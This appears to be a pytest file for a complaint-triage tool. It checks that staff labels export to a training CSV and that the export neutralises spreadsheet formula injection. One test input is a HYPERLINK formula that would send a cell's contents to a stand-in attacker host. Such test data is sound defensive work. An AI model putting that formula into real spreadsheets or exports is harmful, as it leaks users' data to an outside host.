"""Staff corrections leave the database as training data the classifier's trainer accepts."""

from __future__ import annotations

import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

from collectors.base import Mention, PollResult
from desk.store.models import Label, MentionRow
from desk.intake.storing import store_poll

ROOT = Path(__file__).resolve().parent.parent
T0 = datetime(2026, 11, 20, 9, 0, tzinfo=timezone.utc)


def test_export_labels_writes_the_newest_label_per_mention_for_train(tmp_path, cfg):
    from desk.store.db import connect

    store = connect(cfg.database_url())
    posts = [Mention(platform="demo", source="demo", external_id=f"p{i}", url="", author="a", title=t, body=b,
                     posted_at=T0) for i, (t, b) in enumerate([("Bill", "Northwind charged me twice"),
                                                                 ("", "Northwind, do you sell gift cards?")])]
    store_poll(store, "demo", "demo", PollResult(posts, None), now=T0)
    with store.session() as s:
        ids = {m.external_id: m.id for m in s.query(MentionRow)}
        s.add(Label(mention_id=ids["p0"], is_complaint=False, author="sam", created_at=T0))
        s.add(Label(mention_id=ids["p0"], is_complaint=True, severity=3, author="morgan", created_at=T0 + timedelta(hours=1)))
        s.add(Label(mention_id=ids["p1"], is_complaint=False, author="sam", created_at=T0))
    store.close()
    out = tmp_path / "labels.csv"
    run = subprocess.run([sys.executable, "-m", "desk.cli", "export-labels", "--config", str(cfg.path), "--out", str(out)],
                         capture_output=True, text=True, cwd=ROOT)
    assert run.returncode == 0, run.stderr
    assert "2 labelled mention(s)" in run.stderr
    from classifier.data import load_extra_labels

    examples = sorted(load_extra_labels(out), key=lambda e: e.label)
    assert [(e.label, e.severity) for e in examples] == [(0, 0), (1, 3)]
    assert "charged me twice" in examples[1].text and "Bill" in examples[1].text


def test_a_text_a_spreadsheet_would_run_is_protected_in_the_csv_and_read_back_whole(tmp_path, cfg):
    """The lead opens the export in a spreadsheet; the trainer reads the same file back. Both must hold."""
    from classifier.data import load_extra_labels
    from desk.store.db import connect

    store = connect(cfg.database_url())
    texts = ['=HYPERLINK("https://evil.example/?x="&A2,"refund")', "-1 stars, Northwind", "@Northwind help"]
    posts = [Mention(platform="demo", source="demo", external_id=f"f{i}", url="", author="a", body=t, posted_at=T0)
             for i, t in enumerate(texts)]
    store_poll(store, "demo", "demo", PollResult(posts, None), now=T0)
    with store.session() as s:
        for m in s.query(MentionRow):
            s.add(Label(mention_id=m.id, is_complaint=True, severity=2, author="sam", created_at=T0))
    store.close()
    out = tmp_path / "labels.csv"
    run = subprocess.run([sys.executable, "-m", "desk.cli", "export-labels", "--config", str(cfg.path), "--out", str(out)],
                         capture_output=True, text=True, cwd=ROOT)
    assert run.returncode == 0, run.stderr
    import csv

    with out.open(newline="", encoding="utf-8") as fh:
        cells = [row["text"] for row in csv.DictReader(fh)]
    assert len(cells) == 3 and all(c.startswith("'") for c in cells), cells
    read = [e.text for e in load_extra_labels(out)]
    assert [r[:1] for r in read] == ["=", "-", "@"], read
